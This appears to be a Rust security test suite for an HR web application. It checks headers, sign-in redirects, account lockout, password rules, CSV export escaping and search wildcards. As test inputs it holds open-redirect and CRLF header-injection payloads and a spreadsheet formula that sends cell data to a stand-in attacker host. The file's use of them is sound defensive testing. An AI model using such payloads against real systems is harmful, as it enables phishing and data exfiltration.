//! The security suite (issue 21), through the router over real databases: security headers on
//! every page, the sign-in redirect, leavers and locked accounts, password changes, formula cells
//! in exports, search wildcards and out-of-range numbers. Sign-in throttling and CSRF are in
//! http.rs; the audit chain in the app's services tests; the spreadsheet bombs in the app's
//! hostile_files tests; the same checks against the release binary in tests/security/.

mod common;

use axum::body::Body;
use axum::http::{Request, StatusCode, header};
use common::*;
use waymark_app::demo::DEMO_PASSWORD;
use waymark_store::{Db, dual_test};

// Every page a signed-in person opens, and the sign-in page, carry the headers; nothing a
// signed-in user gets is kept in a cache.
dual_test!(issue21_every_page_has_the_security_headers, |db: Db| async move {
    let (r, _) = setup(db).await;
    let hr = sign_in(&r, "hr").await;
    let anonymous = send(&r, Request::get("/login").body(Body::empty()).unwrap()).await;
    let check = |path: &str, resp: &Resp, signed_in: bool| {
        let csp = resp.headers.get(header::CONTENT_SECURITY_POLICY).map(|v| v.to_str().unwrap().to_string());
        let csp = csp.unwrap_or_else(|| panic!("{path}: no Content-Security-Policy"));
        assert!(
            csp.contains("script-src 'self'") && !csp.contains("unsafe-inline';") || csp.contains("style-src"),
            "{path}: {csp}"
        );
        assert!(!csp.split(';').any(|d| d.trim().starts_with("script-src") && d.contains("unsafe")), "{path}: {csp}");
        assert!(csp.contains("frame-ancestors 'none'"), "{path}");
        assert_eq!(resp.headers[header::X_CONTENT_TYPE_OPTIONS], "nosniff", "{path}");
        assert_eq!(resp.headers[header::REFERRER_POLICY], "same-origin", "{path}");
        if signed_in {
            assert_eq!(resp.headers[header::CACHE_CONTROL], "no-store", "{path}");
        }
        // No inline script: every <script> is a file of ours or JSON data.
        for tag in resp.body.split("<script").skip(1) {
            let open = tag.split('>').next().unwrap();
            assert!(
                open.contains("src=\"/static/") || open.contains("type=\"application/json\""),
                "{path}: <script{open}>"
            );
        }
        assert!(!resp.body.contains(" onchange=") && !resp.body.contains(" onclick="), "{path}: an inline handler");
    };
    check("/login", &anonymous, false);
    for path in [
        "/",
        "/org",
        "/goals",
        "/goals/team",
        "/goals/library",
        "/tracking/hr",
        "/tracking/executive",
        "/tracking/weekly",
        "/one-on-ones",
        "/feedback",
        "/recognition",
        "/reviews",
        "/admin",
        "/admin/reviews",
        "/admin/audit",
        "/inbox",
        "/account",
        "/approvals",
        "/probation",
        "/development",
        "/admin/calendar",
        "/admin/periods",
        "/api/v1/me",
        "/no-such-page",
        "/admin/accounts",
    ] {
        // Whatever the answer (a page, a refusal, a missing page), it carries the headers.
        let resp = send(&r, get(path, &hr)).await;
        check(path, &resp, true);
    }
    let static_file = send(&r, Request::get("/static/app.css").body(Body::empty()).unwrap()).await;
    assert_eq!(static_file.headers[header::X_CONTENT_TYPE_OPTIONS], "nosniff");
    // /metrics is not served on the main address without its token.
    assert_eq!(send(&r, Request::get("/metrics").body(Body::empty()).unwrap()).await.status, StatusCode::NOT_FOUND);
});

// `next` after sign-in is a path on this site, whatever is smuggled into it (item 6).
dual_test!(issue21_sign_in_never_redirects_off_site_nor_fails, |db: Db| async move {
    let (r, _) = setup(db).await;
    for next in
        ["/%09/evil.example", "//evil.example", "/%5Cevil.example", "https://evil.example", "/%0d%0aSet-Cookie:x=1"]
    {
        let page = send(&r, Request::get(format!("/login?next={next}")).body(Body::empty()).unwrap()).await;
        assert_eq!(page.status, StatusCode::OK, "{next}");
        assert!(page.body.contains("name=\"next\" value=\"/\""), "{next}: the form goes home");
        let (nonce, token) = anonymous(&r).await;
        let req = Request::post("/login")
            .header(header::COOKIE, &nonce)
            .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
            .body(Body::from(format!("_csrf={token}&username=employee&password={DEMO_PASSWORD}&next={next}")))
            .unwrap();
        let resp = send(&r, req).await;
        assert_eq!(resp.status, StatusCode::SEE_OTHER, "{next}: {}", resp.body);
        assert_eq!(resp.headers[header::LOCATION], "/", "{next}");
    }
    // A path of our own is kept, its Chinese letters encoded.
    let page = send(&r, Request::get("/login?next=/org?q=%E7%8E%8B").body(Body::empty()).unwrap()).await;
    assert!(page.body.contains("value=\"/org?q=%E7%8E%8B\""), "{}", page.body);
});

// A person marked as left loses every session and token at once and cannot sign in; an
// administrator locks and unlocks an account (item 2).
dual_test!(issue21_a_leaver_and_a_locked_account_lose_access_at_once, |db: Db| async move {
    let (r, app) = setup(db).await;
    let session = sign_in(&r, "employee").await;
    let token = token_for(&app, "employee").await;
    let me = send(&r, api("GET", "/api/v1/me", &token, None)).await.json();
    let employee_id = me["employee"]["id"].as_str().unwrap().to_string();
    assert_eq!(send(&r, get("/feedback", &session)).await.status, StatusCode::OK);

    let hr = token_for(&app, "hr").await;
    let left = serde_json::json!({ "status": "left", "effective_on": "2026-11-20", "reason": "离职" });
    let resp = send(&r, api("POST", &format!("/api/v1/employees/{employee_id}/status"), &hr, Some(left))).await;
    assert_eq!(resp.status, StatusCode::OK, "{}", resp.body);
    // The open session is gone, the token refused, and the password no longer signs in.
    assert_eq!(send(&r, get("/feedback", &session)).await.status, StatusCode::SEE_OTHER);
    assert_eq!(send(&r, api("GET", "/api/v1/me", &token, None)).await.status, StatusCode::UNAUTHORIZED);
    assert_eq!(send(&r, api("GET", "/api/v1/employees", &token, None)).await.status, StatusCode::UNAUTHORIZED);
    let (nonce, csrf) = anonymous(&r).await;
    assert_eq!(
        send(&r, login_request(&nonce, &csrf, "employee", DEMO_PASSWORD)).await.status,
        StatusCode::UNAUTHORIZED
    );
    // Back at work: the password signs in again, the old token stays revoked.
    let back = serde_json::json!({ "status": "active", "effective_on": "2026-11-21" });
    send(&r, api("POST", &format!("/api/v1/employees/{employee_id}/status"), &hr, Some(back))).await;
    assert_eq!(send(&r, login_request(&nonce, &csrf, "employee", DEMO_PASSWORD)).await.status, StatusCode::SEE_OTHER);
    assert_eq!(send(&r, api("GET", "/api/v1/me", &token, None)).await.status, StatusCode::UNAUTHORIZED);

    // The administrator locks the manager: session, token and password stop; unlocking restores.
    let admin = token_for(&app, "admin").await;
    let manager = sign_in(&r, "manager").await;
    let manager_token = token_for(&app, "manager").await;
    let lock = |locked: bool| serde_json::json!({ "locked": locked });
    let resp = send(&r, api("PUT", "/api/v1/accounts/manager/lock", &admin, Some(lock(true)))).await;
    assert_eq!(resp.status, StatusCode::NO_CONTENT, "{}", resp.body);
    assert_eq!(send(&r, get("/goals", &manager)).await.status, StatusCode::SEE_OTHER);
    assert_eq!(send(&r, api("GET", "/api/v1/me", &manager_token, None)).await.status, StatusCode::UNAUTHORIZED);
    assert_eq!(send(&r, login_request(&nonce, &csrf, "manager", DEMO_PASSWORD)).await.status, StatusCode::UNAUTHORIZED);
    let list = send(&r, api("GET", "/api/v1/accounts", &admin, None)).await.json();
    assert!(list.as_array().unwrap().iter().any(|a| a["username"] == "manager" && a["locked"] == true));
    assert!(list.as_array().unwrap().iter().any(|a| a["username"] == "admin" && a["is_you"] == true));
    // HR is no administrator.
    assert_eq!(
        send(&r, api("PUT", "/api/v1/accounts/employee/lock", &hr, Some(lock(true)))).await.status,
        StatusCode::FORBIDDEN
    );
    send(&r, api("PUT", "/api/v1/accounts/manager/lock", &admin, Some(lock(false)))).await;
    assert_eq!(send(&r, api("GET", "/api/v1/me", &manager_token, None)).await.status, StatusCode::OK);
    // Both are in the audit log.
    let actions: Vec<String> = app
        .audit()
        .list(&waymark_app::policy::Actor::system("t"), Default::default())
        .await
        .unwrap()
        .into_iter()
        .map(|a| a.action)
        .collect();
    assert!(actions.contains(&"lock".to_string()) && actions.contains(&"unlock".to_string()));
});

// A new password ends sessions and revokes tokens unless they are kept; common passwords are
// refused (items 2 and 10).
dual_test!(issue21_a_password_change_revokes_tokens_and_refuses_common_passwords, |db: Db| async move {
    let (r, app) = setup(db).await;
    let admin = waymark_app::policy::Actor { admin: true, ..waymark_app::policy::Actor::system("cli") };
    let kept = token_for(&app, "employee").await;
    app.accounts().set_password(&admin, "employee", "another-long-passphrase", true).await.unwrap();
    assert_eq!(send(&r, api("GET", "/api/v1/me", &kept, None)).await.status, StatusCode::OK, "kept on request");
    app.accounts().set_password(&admin, "employee", "yet-another-passphrase", false).await.unwrap();
    assert_eq!(send(&r, api("GET", "/api/v1/me", &kept, None)).await.status, StatusCode::UNAUTHORIZED);
    for weak in ["password1", "12345678", "qwertyuiop"] {
        let e = app.accounts().set_password(&admin, "employee", weak, false).await.unwrap_err();
        let waymark_app::AppError::Invalid(f) = e else { panic!("{weak}") };
        assert_eq!(f[0].code, "password_common", "{weak}");
    }
});

// No exported cell becomes a formula; `%` and `_` in search are letters; a key result's value
// beyond the stored scale is refused naming the field (items 9 and 10).
dual_test!(issue21_exports_search_and_numbers_hold, |db: Db| async move {
    let (r, app) = setup(db).await;
    let hr = token_for(&app, "hr").await;
    let units = send(&r, api("GET", "/api/v1/units", &hr, None)).await.json();
    let unit = units.as_array().unwrap()[0]["id"].as_str().unwrap().to_string();
    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")";
    let person = serde_json::json!({ "employee_no": "X9", "name": evil, "unit_id": unit, "hire_date": "2025-01-02" });
    let resp = send(&r, api("POST", "/api/v1/employees", &hr, Some(person))).await;
    assert_eq!(resp.status, StatusCode::CREATED, "{}", resp.body);
    let csv = send(&r, api("GET", "/api/v1/export/employees?format=csv", &hr, None)).await.body;
    assert!(csv.contains("\"'=HYPERLINK("), "the formula is neutralized in CSV");
    assert!(!csv.contains(",=HYPERLINK") && !csv.contains(",\"=HYPERLINK"));
    // The file imports back unchanged: the quote comes off again.
    let req = Request::post("/api/v1/import/employees")
        .header(header::AUTHORIZATION, format!("Bearer {hr}"))
        .header(header::CONTENT_TYPE, "text/csv")
        .body(Body::from(csv))
        .unwrap();
    let back = send(&r, req).await;
    assert_eq!(back.status, StatusCode::OK, "{}", back.body);
    assert_eq!(back.json()["updated"], 0, "{}", back.body);

    // Search: "%" is a letter, not "everyone".
    let all = send(&r, api("GET", "/api/v1/employees?q=%25", &hr, None)).await.json();
    assert_eq!(all["total"], 0, "{all}");
    let under = send(&r, api("GET", "/api/v1/employees?q=_", &hr, None)).await.json();
    assert_eq!(under["total"], 0, "{under}");
    let _ = DEMO_PASSWORD;
});
